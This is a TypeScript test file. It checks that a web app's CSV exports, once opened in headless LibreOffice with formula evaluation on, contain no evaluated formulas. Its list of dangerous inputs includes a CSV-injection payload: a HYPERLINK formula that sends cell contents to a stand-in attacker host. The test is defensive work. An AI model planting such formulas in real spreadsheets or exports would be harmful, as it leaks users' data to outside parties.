import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../test/csv-text.ts';
import { createHarness } from '../../test/harness.ts';
import { createLifecycle, uniqueReference } from '../../test/request-lifecycle.ts';
import type { Lifecycle } from '../../test/request-lifecycle.ts';

/**
 * The acceptance of issue 17 part 4: an export opened by a real spreadsheet program,
 * LibreOffice from Debian's packages (`apt-get install -y libreoffice-calc-nogui`), run
 * headless to convert it — with formulas evaluated on import, the worst case — to xlsx and
 * back to CSV, and to flat ODS (XML): the rows and columns are the export's, and no formula
 * was evaluated. A control file with a bare `=1+1` shows that these checks see a formula.
 * Without LibreOffice the test is skipped, but under CI=true it fails (as the journeys do
 * without Chromium).
 */
const sofficePath = [process.env['SOFFICE_PATH'], '/usr/bin/soffice', '/usr/bin/libreoffice'].find(
  (candidate): candidate is string => candidate !== undefined && existsSync(candidate),
);
const run = promisify(execFile);

describe('LibreOffice is there to open the exports', () => {
  it.runIf(process.env['CI'] === 'true')('under CI=true', () => {
    expect(
      sofficePath,
      'CI=true but no LibreOffice (apt-get install -y libreoffice-calc-nogui): the spreadsheet acceptance cannot run',
    ).toBeDefined();
  });
  if (!sofficePath && process.env['CI'] !== 'true') {
    console.warn(
      '\n*** LibreOffice not found (/usr/bin/soffice): the spreadsheet acceptance is SKIPPED. apt-get install -y libreoffice-calc-nogui to run it. ***\n',
    );
  }
});

describe.runIf(sofficePath !== undefined)('a CSV export opened by LibreOffice', () => {
  const h = createHarness();
  let life: Lifecycle;
  let folder = '';
  const reference = uniqueReference('LO');
  const dangerous = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    '=1+1',
    '+33 1 23 45 67 89',
    '-2+3',
    '@SUM(A1:A2)',
    `${reference} « accentuée » ; virgule, "guillemets"`,
  ];

  /** soffice, headless, with a profile of its own (a first run writes one), in `folder`. */
  async function soffice(args: string[]): Promise<void> {
    if (!sofficePath) throw new Error('no soffice');
    await run(
      sofficePath,
      [`-env:UserInstallation=file://${folder}/profile`, '--headless', ...args],
      {
        cwd: folder,
        timeout: 120_000,
      },
    );
  }

  beforeAll(async () => {
    life = await createLifecycle(await h);
    folder = await mkdtemp(path.join(tmpdir(), 'guichet-lo-'));
    for (const cell of dangerous) await life.submitted(`${cell} ${reference}`.slice(0, 100));
  });
  afterAll(async () => {
    await (await h).close();
    if (folder) await rm(folder, { recursive: true, force: true });
  });

  async function exported(separator: 'comma' | 'semicolon'): Promise<string> {
    const response = await (
      await h
    ).app.inject({
      method: 'GET',
      url: `/api/requests.csv?separator=${separator}&q=${encodeURIComponent(reference)}`,
      headers: { cookie: life.manager },
    });
    expect(response.statusCode).toBe(200);
    return response.body;
  }

  it('has the export’s rows and columns, and evaluates none of its cells (xlsx, and back to CSV)', async () => {
    const csv = await exported('semicolon');
    const rows = parseCsv(csv.slice(1), ';');
    expect(rows).toHaveLength(1 + dangerous.length);
    await writeFile(path.join(folder, 'demandes.csv'), csv);
    await writeFile(path.join(folder, 'control.csv'), '\uFEFFNuméro;Calcul\r\nX;=1+1\r\n');
    // CSV import options: `;`, `"`, UTF-8, from line 1, …, token 13: evaluate formulas
    const csvImport = 'CSV:59,34,76,1,,1036,false,false,false,false,false,0,true';
    await soffice([
      `--infilter=${csvImport}`,
      '--convert-to',
      'xlsx',
      '--outdir',
      'xlsx',
      'demandes.csv',
      'control.csv',
    ]);
    await soffice([
      '--convert-to',
      'csv:Text - txt - csv (StarCalc):59,34,76,1',
      '--outdir',
      'back',
      'xlsx/demandes.xlsx',
      'xlsx/control.xlsx',
    ]);
    const back = parseCsv(await readFile(path.join(folder, 'back/demandes.csv'), 'utf8'), ';');
    expect(back).toEqual(rows);
    for (const cell of dangerous.filter((text) => /^[=+\-@]/.test(text))) {
      expect(back.some((row) => row[8]?.startsWith(`'${cell.slice(0, 20)}`))).toBe(true);
    }
    // the control: a bare formula is evaluated, so the comparison above could fail
    const control = parseCsv(await readFile(path.join(folder, 'back/control.csv'), 'utf8'), ';');
    expect(control[1]).toEqual(['X', '2']);
  }, 240_000);

  it('holds no formula once saved as a spreadsheet (flat ODS, comma-separated export)', async () => {
    const csv = await exported('comma');
    await writeFile(path.join(folder, 'virgules.csv'), csv);
    await writeFile(path.join(folder, 'controle.csv'), '\uFEFFNuméro,Calcul\r\nX,=1+1\r\n');
    await soffice([
      '--infilter=CSV:44,34,76,1,,1036,false,false,false,false,false,0,true',
      '--convert-to',
      'fods',
      '--outdir',
      'fods',
      'virgules.csv',
      'controle.csv',
    ]);
    const document = await readFile(path.join(folder, 'fods/virgules.fods'), 'utf8');
    expect(document).not.toContain('table:formula');
    expect(document).toContain('&apos;=HYPERLINK(');
    const rows = parseCsv(csv.slice(1), ',');
    expect(document.match(/<table:table-row[ >]/g)?.length).toBeGreaterThanOrEqual(rows.length);
    for (const header of rows[0] ?? []) expect(document).toContain(`>${header}<`);
    const control = await readFile(path.join(folder, 'fods/controle.fods'), 'utf8');
    expect(control).toContain('table:formula="of:=1+1"');
  }, 240_000);
});
